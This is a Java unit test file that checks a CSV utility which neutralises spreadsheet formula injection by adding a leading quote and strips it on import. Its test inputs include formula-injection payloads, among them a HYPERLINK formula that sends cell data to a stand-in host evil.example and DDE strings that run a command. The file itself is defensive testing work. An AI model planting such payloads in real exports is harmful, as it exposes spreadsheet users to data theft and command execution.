package org.renraku.platform.control;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")", "=cmd|' /C calc'!A0", "+81 90 1234 5678",
            "-1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋81", "－1",
            "＠SUM(A1)"})
    void aCellThatASpreadsheetWouldReadAsAFormulaGetsALeadingQuote(String formula) {
        assertThat(CsvCells.neutralise(formula)).isEqualTo("'" + formula);
    }

    @ParameterizedTest
    @ValueSource(strings = {"山田 花子", "Hanako Yamada", "taro.yamada@docomo.ne.jp", "1年", "2024-04-01 09:00",
            "O'Brien", "'quoted", "'", "a=b", "花子 -ハナ-", " =1+1", ""})
    void anOrdinaryCellIsWrittenAsItIs(String ordinary) {
        assertThat(CsvCells.neutralise(ordinary)).isEqualTo(ordinary);
        assertThat(CsvCells.restore(ordinary)).isEqualTo(ordinary);
    }

    @Test
    void noValueStaysNoValue() {
        assertThat(CsvCells.neutralise(null)).isNull();
        assertThat(CsvCells.restore(null)).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"-ハナ", "=cmd|' /C calc'!A0", "+81", "@home", "\tx", "'=already quoted", "''-twice",
            "'-", "＝", "'quoted", "O'Brien", "'", "山田 花子"})
    void theImportOfAnExportedCellGivesTheValueBack(String value) {
        assertThat(CsvCells.restore(CsvCells.neutralise(value))).isEqualTo(value);
    }

    @Test
    void aCellThatAlreadyStartsWithAQuoteBeforeAFormulaGetsOneMoreSoTheImportRemovesOnlyTheAddedOne() {
        assertThat(CsvCells.neutralise("'=1+1")).isEqualTo("''=1+1");
        assertThat(CsvCells.restore("''=1+1")).isEqualTo("'=1+1");
    }

    @Test
    void theImportRemovesOneQuoteOnlyBeforeAFormulaCharacter() {
        assertThat(CsvCells.restore("'-ハナ")).isEqualTo("-ハナ");
        assertThat(CsvCells.restore("'quoted")).isEqualTo("'quoted");
        assertThat(CsvCells.restore("'12")).isEqualTo("'12");
    }
}
